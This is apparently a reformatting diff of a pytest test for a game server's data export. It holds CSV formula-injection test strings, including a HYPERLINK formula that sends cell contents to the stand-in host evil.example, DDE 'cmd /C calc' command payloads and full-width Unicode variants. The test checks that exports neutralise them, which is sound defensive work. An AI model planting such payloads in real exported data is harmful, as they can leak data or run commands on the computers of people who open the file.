@@ -29,9 +29,20 @@ from gameserver.stats.simulation import rounds_simulate
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 # Full-width and small forms (＝ ＋ ﹣ ＠) are the ASCII ones once a spreadsheet normalises them (NFKC).
-HOSTILE_NAMES = ['=HYPERLINK("//evil.example/?"&A2,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "plain", "\uff1d1+1",
-                 "\uff0bcmd|' /C calc'!A0", "\ufe63SUM(1)", "\uff20SUM(1)"]
+HOSTILE_NAMES = [
+    '=HYPERLINK("//evil.example/?"&A2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "plain",
+    "\uff1d1+1",
+    "\uff0bcmd|' /C calc'!A0",
+    "\ufe63SUM(1)",
+    "\uff20SUM(1)",
+]
 TEXT = {column.name for column in COLUMNS if column.kind in ("str", "datetime")}
 
 pytestmark = pytest.mark.django_db(transaction=True)
@@ -41,9 +52,14 @@ pytestmark = pytest.mark.django_db(transaction=True)
 def hostile(synthetic_test: Path, model_version) -> list[dict[str, object]]:
     """Players named to run formulas, a set whose licence and attribution do too, an id that starts with '-';
     the live rows."""
-    panorama_set = PanoramaSet.objects.get(pk=panorama_set_import(
-        manifest_path=synthetic_test, name="hostile", licence="@SUM(1+1)*cmd|' /C calc'!A0",
-        attribution='=HYPERLINK("//evil.example/?"&A2,"credit")').set_id)
+    panorama_set = PanoramaSet.objects.get(
+        pk=panorama_set_import(
+            manifest_path=synthetic_test,
+            name="hostile",
+            licence="@SUM(1+1)*cmd|' /C calc'!A0",
+            attribution='=HYPERLINK("//evil.example/?"&A2,"credit")',
+        ).set_id
+    )
     rounds_simulate(panorama_set=panorama_set, rounds=1, skills_km=[500.0] * len(HOSTILE_NAMES), seed=4)
     for seat, name in zip(Player.objects.order_by("pk"), HOSTILE_NAMES, strict=True):
         Player.objects.filter(pk=seat.pk).update(name=name)  # as stored: an admin could have set it
